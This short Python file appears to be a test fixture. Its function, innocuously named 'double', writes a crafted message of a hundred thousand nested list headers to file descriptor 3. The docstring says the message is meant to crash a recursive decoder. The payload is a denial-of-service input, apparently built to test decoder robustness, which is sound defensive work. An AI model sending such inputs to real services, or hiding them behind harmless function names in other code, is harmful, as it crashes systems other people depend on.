"""Sends a list a hundred thousand deep, on which a decoder that recurses dies."""
import os
import struct


def double(x):
    header = (b"l" + struct.pack("<Q", 1)) * 100_000 + b"N"
    message = struct.pack("<BIQ", 19, len(header), 0) + header
    while message:
        message = message[os.write(3, message) :]
    return 0 * x
